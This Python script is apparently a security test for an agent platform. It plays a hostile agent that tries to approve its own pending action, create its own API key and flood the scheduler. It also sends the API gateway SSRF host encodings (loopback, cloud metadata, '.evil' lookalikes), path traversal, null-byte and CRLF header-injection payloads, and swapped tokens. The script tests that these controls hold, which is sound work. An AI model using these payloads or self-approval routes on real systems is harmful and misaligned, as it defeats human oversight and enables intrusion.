"""A hostile agent: asks every door that it has for what it may not have, and tells what it was told.

It is given to the programs of a task as a file; nothing of Rota is imported.
Usage: hostile_talk.py RUN HASH, a run that waits for an approval, and the hash of its action.
"""

import json
import os
import socket
import sys
import time
from http.client import HTTPConnection
from urllib.parse import urlsplit

RUN, HASH = int(sys.argv[1]), sys.argv[2]
DESK, PASS = urlsplit(os.environ["ROTA_MCP_URL"]), os.environ["ROTA_MCP_TOKEN"]
GATE, TOKEN = urlsplit(os.environ["ANTHROPIC_BASE_URL"]), os.environ["ANTHROPIC_API_KEY"]
BOX = os.environ["ROTA_MAILBOX"]
APPROVAL = {"run": RUN, "answer": "approve", "action_hash": HASH}
SEEN = {}


def desk(method, path, body=None):
    line = HTTPConnection(DESK.netloc, timeout=20)
    headers = {"Authorization": f"Bearer {PASS}", "Content-Type": "application/json"}
    line.request(method, path, None if body is None else json.dumps(body), headers)
    answer = line.getresponse()
    text = answer.read()
    line.close()
    return answer.status, text


def tool(name, /, **fields):
    params = {"name": name, "arguments": fields}
    message = {
        "jsonrpc": "2.0",
        "id": time.monotonic_ns(),
        "method": "tools/call",
        "params": params,
    }
    told = json.loads(desk("POST", DESK.path, message)[1])
    if "error" in told:
        return {"ok": False, "error": {"code": "no_tool", "message": told["error"]["message"]}}
    return told["result"]["structuredContent"]


def file(name, verb, /, **fields):
    with open(f"{BOX}/out/{name}.tmp", "w") as written:
        json.dump({"request_id": name, "type": verb, **fields}, written)
    os.rename(f"{BOX}/out/{name}.tmp", f"{BOX}/out/{name}.json")
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            with open(f"{BOX}/in/replies/{name}.json") as reply:
                return json.load(reply)
        except FileNotFoundError:
            time.sleep(0.005)
    raise SystemExit("no reply to " + name)


def gate(head, token=TOKEN):
    """Say a head to the gateway, and return the status of its answer."""
    words = head.replace(b"TOKEN", token.encode()).replace(b"\n", b"\r\n") + b"\r\n\r\n"
    with socket.create_connection((GATE.hostname, GATE.port), timeout=20) as line:
        line.sendall(words)
        told = b""
        while b"\r\n" not in told:
            part = line.recv(4096)
            if not part:
                return 0
            told += part
    return int(told.split()[1])


# E1: its own approval, at every door
SEEN["approved"] = [
    file("e1", "answer_run", **APPROVAL)["ok"],
    file("e1b", "answer", **APPROVAL)["ok"],
    tool("answer_run", **APPROVAL)["ok"],
    tool("approve", **APPROVAL)["ok"],
]
SEEN["api"] = [
    desk("POST", f"/v1/runs/{RUN}/answer", {k: v for k, v in APPROVAL.items() if k != "run"})[0],
    desk("GET", "/v1/tasks")[0],
    desk("POST", "/v1/keys", {"name": "mine"})[0],
]

# E10: a task each second, and more tasks than anybody needs
SEEN["second"] = [
    file("e10", "schedule_task", command=["true"], schedule={"every": "1s"})["error"]["field"],
    tool("schedule_task", command=["true"], schedule={"rrule": "FREQ=SECONDLY"})["error"]["field"],
]
made, why = 0, None
while made < 150:
    told = tool("schedule_task", name=f"t{made}", command=["true"], schedule={"every": "2h"})
    if not told["ok"] and told["error"]["code"] == "too_fast":
        time.sleep(0.2)
        continue
    if not told["ok"]:
        why = told["error"]["code"]
        break
    made += 1
SEEN["made"], SEEN["why"] = made, why
SEEN["walls"] = tool("schedule_task", command=["true"], executor="process")["error"]["code"]

# C2, C3: other hosts, however they are written; C5: a key of its own; C6: another token
BASE = GATE.path.encode()
POST = (
    b"POST " + BASE + b"/v1/messages HTTP/1.1\nHost: localhost\nx-api-key: TOKEN\nContent-Length: 0"
)
HOSTS = [
    b"127.0.0.1", b"[::1]", b"0.0.0.0", b"169.254.169.254", b"2130706433", b"0177.0.0.1",
    b"[::ffff:127.0.0.1]", b"localhost.evil", b"api.anthropic.com.evil", b"a@127.0.0.1",
    b"xn--e1afmkfd.evil", b"API.ANTHROPIC.COM.",
]  # fmt: skip
TAIL = b" HTTP/1.1\nHost: localhost\nx-api-key: TOKEN\nContent-Length: 0"
SEEN["hosts"] = sorted(
    {gate(b"POST http://" + host + b"/v1/messages" + TAIL) for host in HOSTS}
    | {gate(b"CONNECT " + host + b":443" + TAIL) for host in HOSTS}
    | {gate(b"POST /" + host + b"/v1/messages" + TAIL) for host in HOSTS}
)
SEEN["tricks"] = sorted(
    {
        gate(POST.replace(b"localhost", b"api.anthropic.com.evil")),
        gate(b"POST " + BASE + b"/v1/messages%00.evil" + TAIL),
        gate(b"POST " + BASE + b"/../admin" + TAIL),
        gate(b"DELETE " + BASE + b"/v1/messages" + TAIL),
        gate(POST + b"\nX-Bad: a\rInjected: b"),
    }
)
SEEN["tokens"] = [gate(POST, "another"), gate(POST, TOKEN[:-1]), gate(POST, PASS)]
SEEN["asked"] = gate(
    b"POST " + BASE + b"/v1/messages?key=sk-of-the-attacker HTTP/1.1\nHost: localhost\n"
    b"x-api-key: TOKEN\nAuthorization: Bearer sk-of-the-attacker\nCookie: k=sk-of-the-attacker\n"
    b"anthropic-api-key: sk-of-the-attacker\nContent-Length: 0"
)
print(json.dumps(SEEN))
